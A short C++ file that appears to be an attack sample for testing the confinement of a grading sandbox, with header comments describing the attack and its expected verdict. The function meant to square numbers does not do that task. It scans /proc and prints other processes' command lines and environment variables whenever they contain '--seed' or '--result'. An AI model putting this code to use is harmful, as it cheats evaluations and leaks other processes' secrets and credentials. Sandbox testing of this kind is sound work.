// Attack: reads the seed and the name of the result file off the command lines of others
// Verdict: not_started
// Stage: run
// Needs: confinement
#include "square_port.hpp"

#include <dirent.h>
#include <fstream>
#include <iostream>
#include <string>

void square(const std::int64_t*, std::int64_t*, std::size_t) {
    DIR* folder = opendir("/proc");
    for (const dirent* entry; folder && (entry = readdir(folder));) {
        const std::string process = std::string("/proc/") + entry->d_name;
        for (const char* name : {"/cmdline", "/environ"}) {
            std::ifstream file(process + name);
            std::string text;
            for (char c; file.get(c);) text += c == 0 ? ' ' : c;
            if (text.find("--seed") != std::string::npos ||
                text.find("--result") != std::string::npos)
                std::cout << "SECRET " << text << "\n";
        }
    }
}
